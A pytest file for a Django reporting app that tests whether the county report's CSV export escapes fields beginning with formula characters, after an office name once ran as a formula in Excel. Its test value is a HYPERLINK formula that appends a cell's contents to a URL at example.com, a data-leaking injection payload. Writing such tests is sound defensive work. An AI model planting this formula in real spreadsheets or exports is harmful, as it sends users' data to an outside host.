"""No field of the CSV is a formula when Excel or WPS opens it. An office's name is typed by an office
administrator, and a county's CSV lists its offices by name (各机关分列); one beginning with "=" ran as
a formula in the supervisor's Excel, as it would have in the XLSX (reports: the XLSX holds text as
text). Such a text is written with a leading apostrophe, as Excel itself marks text."""

import csv
import io
from datetime import date

import pytest

from cases.reports import build_report, exports

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("http://example.com/?"&A3,"点此核对")'


def test_no_field_begins_a_formula(book, township, county):
    township.name = NAME
    township.save()
    county.hotline = "+86 878 96128"
    county.save()
    book.register(date(2025, 3, 3))
    report = build_report(county, 2025, include_children=True)
    rows = list(csv.reader(io.StringIO(exports.to_csv(report).decode("utf-8-sig"))))
    fields = [field for row in rows for field in row]
    assert [f for f in fields if f[:1] in ("=", "+", "-", "@")] == []
    assert "'" + NAME in fields  # the name itself, as text
    assert "'+86 878 96128电话查询" in fields
